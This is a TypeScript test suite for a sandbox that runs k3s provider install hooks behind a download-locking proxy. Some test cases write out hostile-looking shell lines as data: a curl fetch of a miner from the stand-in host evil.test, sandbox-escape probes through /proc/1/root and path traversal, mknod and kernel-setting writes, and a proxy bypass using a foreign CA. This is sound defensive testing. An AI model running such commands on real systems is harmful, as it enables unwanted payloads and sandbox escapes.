import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAuthority } from '../../src/hook/certificates.ts';
import { type HookRequest, runHook } from '../../src/hook/index.ts';
import { hostArchitecture } from '../../src/support/architecture.ts';
import { SextantError } from '../../src/support/errors.ts';
import { fileDigest } from '../../src/support/files.ts';
import { answersFrom, buildPlugin, hookRequest } from './hooks.ts';
import { makeRoot } from './root.ts';

const GET = 'https://get.k3s.io/';
const K3S = 'https://github.com/k3s-io/k3s/releases/download/v1.36.3%2Bk3s1/k3s';
const VERSION = 'v1.36.3+k3s1';
let folder: string;
let setup: { root: string; plugin: string };
let files: Record<string, string>;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sextant-judge-'));
  const plugin = await buildPlugin(join(folder, 'agent-provider-test'), hostArchitecture() ?? 'amd64');
  setup = { root: await makeRoot(join(folder, 'root')), plugin };
  files = { [GET]: join(folder, 'install.sh'), [K3S]: join(folder, 'k3s') };
  await writeFile(files[GET] ?? '', '#!/bin/sh\necho installed by the script\n');
  await writeFile(files[K3S] ?? '', `#!/bin/sh\necho ${VERSION}\n`);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function request(behaviour: Record<string, unknown>, changes: Partial<HookRequest> = {}) {
  return hookRequest(setup, behaviour, { answer: answersFrom(files), ...changes });
}

async function failure(asked: HookRequest): Promise<SextantError> {
  const error = await runHook(asked).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(SextantError);
  expect(existsSync(asked.workFolder) ? await readdir(asked.workFolder) : []).toEqual([]);
  return error as SextantError;
}

async function shell(script: string): Promise<string> {
  const asked = await request({ shell: script });
  await runHook(asked);
  return (await readFile(asked.logFile, 'utf8'))
    .split('\n')
    .flatMap((line) => /^\[init\.provider\.install data\] (.*)$/.exec(line)?.slice(1) ?? [])
    .join('\n');
}

describe('a hook that succeeds', () => {
  it('fetches with curl, wget and a Go program through the proxy, and reports the version of what it laid down', async () => {
    const asked = await request({
      get: K3S,
      shell: `curl -sfL ${GET} -o /tmp/installer.sh && sh /tmp/installer.sh && wget -qO /usr/local/bin/by-wget ${K3S}`,
      run: '/usr/bin/fetched',
    });
    const result = await runHook(asked);
    expect(result).toEqual({
      upper: join(asked.workFolder, 'upper'),
      removed: [],
      version: VERSION,
      urls: [K3S, GET],
    });
    expect(await readdir(asked.workFolder)).toEqual(['upper']);
    expect((await readdir(result.upper, { recursive: true })).sort()).toEqual(
      ['usr', 'usr/bin', 'usr/bin/fetched', 'usr/local', 'usr/local/bin', 'usr/local/bin/by-wget'].sort(),
    );
    expect(await readFile(join(result.upper, 'usr/local/bin/by-wget'))).toEqual(
      await readFile(files[K3S] ?? ''),
    );
    const log = await readFile(asked.logFile, 'utf8');
    const { sha256, size } = await fileDigest(files[K3S] ?? '');
    expect(log).toContain(`[proxy] GET ${K3S} 200, ${size} bytes, file sha256:${sha256}`);
    expect(log).toContain('[event] init.provider.install sent: {"name":"init.provider.install"');
    expect(log).toContain('[event] init.provider.info answered success');
    expect(log).toContain('[init.provider.install stderr] installing on');
    expect(log).toContain('[init.provider.install data] installed by the script');
  });

  it('writes with its modes into the upper layer and leaves the root as it is', async () => {
    const script =
      'echo program > /usr/bin/k3s; chmod 750 /usr/bin/k3s; echo new > /opt/kept; echo secret > /etc/k3s.env; chmod 600 /etc/k3s.env';
    const before = await readFile(join(setup.root, 'opt/kept'), 'utf8');
    const { upper } = await runHook(await request({ shell: script }));
    const mode = async (name: string) => (await stat(join(upper, name))).mode & 0o7777;
    expect([await mode('usr/bin/k3s'), await mode('etc/k3s.env')]).toEqual([0o750, 0o600]);
    expect(await readFile(join(upper, 'opt/kept'), 'utf8')).toBe('new\n');
    expect(await readFile(join(setup.root, 'opt/kept'), 'utf8')).toBe(before);
    expect(existsSync(join(setup.root, 'usr/bin/k3s'))).toBe(false);
  });

  it('lays down the same in every run', async () => {
    const lay = async () => {
      const { upper } = await runHook(
        await request({
          get: K3S,
          shell: 'env | grep -i proxy > /etc/k3s.env; uname -n > /etc/node; ln -s k3s /usr/bin/kubectl',
        }),
      );
      const paths = (await readdir(upper, { recursive: true })).sort();
      return Promise.all(
        paths.map(async (path) => {
          const { mode } = await stat(join(upper, path)).catch(() => ({ mode: 0 }));
          return [
            path,
            mode,
            (mode & 0o170000) === 0o100000 ? (await fileDigest(join(upper, path))).sha256 : '',
          ];
        }),
      );
    };
    expect(await lay()).toEqual(await lay());
  });

  it('writes everywhere, and all of it but scratch is in the upper layer', async () => {
    const { upper } = await runHook(
      await request({
        shell:
          'for path in /etc/f /var/lib/f /opt/f /root/f /srv-like /usr/bin/f /tmp/f /run/f /dev/shm/f; do echo x > $path; done',
      }),
    );
    const written = (await readdir(upper, { recursive: true, withFileTypes: true }))
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name).slice(upper.length));
    expect(written.sort()).toEqual(['/etc/f', '/opt/f', '/root/f', '/srv-like', '/usr/bin/f', '/var/lib/f']);
  });

  it('keeps set-uid bits for the tree to judge, whoever it gave the file to', async () => {
    const script =
      'touch /usr/bin/own /usr/bin/given; chmod 4755 /usr/bin/own; chown 12:13 /usr/bin/given || true; chmod 6711 /usr/bin/given';
    const { upper } = await runHook(await request({ shell: script }));
    const mode = async (name: string) => (await stat(join(upper, 'usr/bin', name))).mode & 0o7777;
    expect([await mode('own'), await mode('given')]).toEqual([0o4755, 0o6711]);
    expect((await stat(join(upper, 'usr/bin/given'))).uid).toBe(process.getuid?.());
  });

  it('says what it removed of the root, and leaves no white-out behind', async () => {
    const { upper, removed } = await runHook(
      await request({
        shell: 'rm /opt/kept; rm -r /opt/old; mkdir /opt/old; echo new > /opt/old/new; rm -r /etc/ssl',
      }),
    );
    expect(removed).toEqual(['/etc/ssl', '/opt/kept', '/opt/old/deep', '/opt/old/file']);
    expect((await readdir(upper, { recursive: true })).sort()).toEqual([
      'etc',
      'opt',
      'opt/old',
      'opt/old/new',
    ]);
  });

  it('gets a payload that is too large for an event', async () => {
    const filler = 'x'.repeat(9000);
    const asked = await request({ shell: 'true', filler });
    expect((await runHook(asked)).version).toBe(VERSION);
    expect(await readFile(asked.logFile, 'utf8')).toContain('"file":"/tmp/pluggable-event"');
  });

  it('gets the recipe’s environment and extra files', async () => {
    await writeFile(join(folder, 'extra'), 'extra\n');
    const asked = await request(
      { shell: 'echo "$INSTALL_K3S_EXEC"; cat /opt/vendor/extra' },
      {
        environment: { INSTALL_K3S_EXEC: 'server --flag' },
        extraFiles: { '/opt/vendor/extra': join(folder, 'extra') },
      },
    );
    const { upper } = await runHook(asked);
    const log = await readFile(asked.logFile, 'utf8');
    expect(log).toContain('data] server --flag\n[init.provider.install data] extra');
    expect(await readdir(upper)).toEqual([]);
  });

  it('runs beside another one', async () => {
    const both = await Promise.all([
      runHook(await request({ get: K3S, shell: 'echo one > /etc/which' })),
      runHook(await request({ get: GET, shell: 'echo two > /etc/which' })),
    ]);
    const which = await Promise.all(both.map(({ upper }) => readFile(join(upper, 'etc/which'), 'utf8')));
    expect(which).toEqual(['one\n', 'two\n']);
    expect(both.map(({ urls }) => urls)).toEqual([[K3S], [GET]]);
  });
});

describe('the sandbox of a hook', () => {
  it('has no network but the proxy', async () => {
    const asked = await request({
      dial: '192.0.2.1:443',
      shell: 'curl -s --noproxy "*" https://192.0.2.1/ || echo no way',
    });
    await runHook(asked);
    const log = await readFile(asked.logFile, 'utf8');
    expect(log).toContain('connect: network is unreachable');
    expect(log).toContain('no way');
  });

  it('shows nothing of the machine: its files, processes, devices and kernel settings', async () => {
    const host = join(folder, 'root');
    const said = await shell(
      [
        `ls -d ${host} /proc/1/root${host} /../../..${host} 2>&1`,
        'ls -d /proc/[0-9]* | grep -c .',
        'mknod /opt/disk b 254 0 2>&1',
        'value=$(cat /proc/sys/vm/swappiness); (echo $value > /proc/sys/vm/swappiness) 2>&1',
        'ls /sys; ls /dev',
        'true',
      ].join('; '),
    );
    expect(said.match(/No such file or directory/g)).toHaveLength(3);
    expect(said).toContain('mknod: /opt/disk: Operation not permitted');
    expect(said).toMatch(/(Read-only file system|Permission denied)/);
    expect(said.replaceAll('\n', ' ')).toContain(
      'fd full null random shm stderr stdin stdout tty urandom zero',
    );
    const processes = Number(/^\d+$/m.exec(said)?.[0]);
    expect(processes).toBeLessThan(10);
  });

  it('is the same to every hook, whoever builds', async () => {
    const said = await shell(
      'pwd; umask; hostname; id -u; env | grep -v -i -e proxy -e CERT -e BUNDLE -e CAINFO',
    );
    expect(said.split('\n').sort()).toEqual(
      [
        '/',
        '0022',
        'sextant',
        '0',
        'HOME=/root',
        'LANG=C.UTF-8',
        'LOGNAME=root',
        'PWD=/',
        'SHELL=/bin/sh',
        'TZ=UTC',
        'USER=root',
      ]
        .concat('PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin')
        .sort(),
    );
  });
});

describe('a hook that goes wrong', () => {
  it('by saying so: its reason is the message, its output below', async () => {
    const error = await failure(await request({ fail: 'Failed to download installer script: 404' }));
    expect(error.code).toBe('tool');
    expect(error.message).toBe("the provider's hook failed: Failed to download installer script: 404");
    expect(error.details).toContain('[init.provider.install stderr] installing on');
  });

  it('by its exit code', async () => {
    const error = await failure(await request({ exit: 7 }));
    expect(error.message).toBe('the plug-in failed at init.provider.install with exit code 7');
    expect(error.details).toContain('about to end badly');
  });

  it('by answering garbage', async () => {
    const error = await failure(await request({ garbage: 'Segmentation \u001b[31mfault' }));
    expect(error.message).toContain('answer to init.provider.install is not JSON');
    expect(error.details).toContain('[init.provider.install stdout] Segmentation fault');
  });

  it('by hanging: it is ended after the time limit with what it said last', async () => {
    const error = await failure(await request({ hang: true }, { timeoutSeconds: 2 }));
    expect(error.code).toBe('tool');
    expect(error.message).toBe('the hook of agent-provider-test took longer than 2 s and was ended');
    expect(error.details).toContain('waiting for nothing');
  });

  it('by leaving programs behind it: they are ended with it', async () => {
    const asked = await request({ shell: 'setsid sleep 4711 & sleep 4711' }, { timeoutSeconds: 1 });
    expect((await failure(asked)).message).toContain('took longer than 1 s');
    await expect.poll(() => holders(asked.workFolder), { timeout: 5_000 }).toEqual([]);
  });

  it('by asking for an address that is not in the lock, even when it goes on without', async () => {
    const asked = await request({ shell: 'curl -sfL https://evil.test/miner -o /usr/bin/miner || true' });
    const error = await failure(asked);
    expect(error.code).toBe('input');
    expect(error.message).toBe('the hook asked for https://evil.test/miner: the lock does not hold it');
    expect(await readFile(asked.logFile, 'utf8')).toContain('[proxy] GET https://evil.test/miner refused');
  });

  it('by asking for an address in a way that the proxy cannot see', async () => {
    const other = join(folder, 'other.pem');
    await writeFile(other, (await createAuthority()).certificate);
    const error = await failure(
      await request(
        { shell: 'curl -s --cacert /opt/other.pem https://get.k3s.io || true' },
        { extraFiles: { '/opt/other.pem': other } },
      ),
    );
    expect(error.message).toMatch(
      /^the hook asked for https:\/\/get\.k3s\.io\/: TLS with the sandbox's proxy failed/,
    );
  });

  it('by installing nothing that the provider knows', async () => {
    const asked = await request({});
    const error = await failure({ ...asked, payload: { ...asked.payload, provider: 'rke9' } });
    expect(error.message).toBe('the provider does not install "rke9"');
  });

  it('because a download failed: that is the error, not the hook’s', async () => {
    const error = await failure(
      await request(
        { get: GET },
        {
          answer: () =>
            Promise.reject(new SextantError('network', 'https://get.k3s.io/: 503', { hint: 'try again' })),
        },
      ),
    );
    expect(error).toMatchObject({ code: 'network', message: 'https://get.k3s.io/: 503', hint: 'try again' });
  });

  it('because the plug-in is no program', async () => {
    const plugin = join(folder, 'agent-provider-text');
    await writeFile(plugin, '\0\0\0\0', { mode: 0o755 });
    const error = await failure({ ...(await request({})), plugin });
    expect(error.message).toMatch(/failed at init.provider.install with exit code 12[67]/);
  });
});

describe('a hook that is interrupted', () => {
  it('is gone with its processes, its mounts and its files', async () => {
    const controller = new AbortController();
    const asked = await request({
      shell: 'setsid sleep 4321 & setsid sleep 4321 & echo x > /etc/x; sleep 4321',
    });
    const running = runHook({ ...asked, context: { ...asked.context, signal: controller.signal } });
    const ended = running.then(
      () => 'done',
      (error: SextantError) => error.code,
    );
    await expect
      .poll(() => existsSync(join(asked.workFolder, 'upper/etc/x')), { timeout: 20_000 })
      .toBe(true);
    expect(await holders(asked.workFolder)).not.toEqual([]);
    controller.abort();
    expect(await ended).toBe('interrupted');
    await expect.poll(() => holders(asked.workFolder), { timeout: 5_000 }).toEqual([]);
    expect(await readdir(asked.workFolder)).toEqual([]);
    expect(await readFile(asked.logFile, 'utf8')).toContain('failed: interrupted');
  });
});

/** Processes that see a mount below the folder: what a sandbox consists of. */
async function holders(workFolder: string): Promise<string[]> {
  const found: string[] = [];
  for (const name of await readdir('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    const mounts = await readFile(`/proc/${name}/mountinfo`, 'utf8').catch(() => '');
    if (mounts.includes(workFolder)) found.push(name);
  }
  return found;
}
